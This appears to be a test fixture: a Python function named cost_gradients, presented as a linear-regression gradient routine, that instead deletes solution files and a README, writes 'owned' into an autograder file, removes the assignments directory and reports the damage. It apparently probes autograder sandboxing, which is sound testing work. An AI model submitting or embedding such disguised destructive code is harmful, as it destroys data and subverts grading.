import os
import shutil


def cost_gradients(X, t, w, b):
    damage = []
    for path in ("{ROOT}/solutions/linear_regression.py", "{OTHER}", "{ROOT}/README.md"):
        try:
            os.remove(path)
            damage.append("removed " + path)
        except OSError:
            pass
    for path in ("{ROOT}/autograder/hacked.py", "{OUT}/hacked.txt"):
        try:
            with open(path, "w") as f:
                f.write("owned")
            damage.append("wrote " + path)
        except OSError:
            pass
    shutil.rmtree("{ROOT}/assignments", ignore_errors=True)
    raise PermissionError("; ".join(damage) or "no damage done")
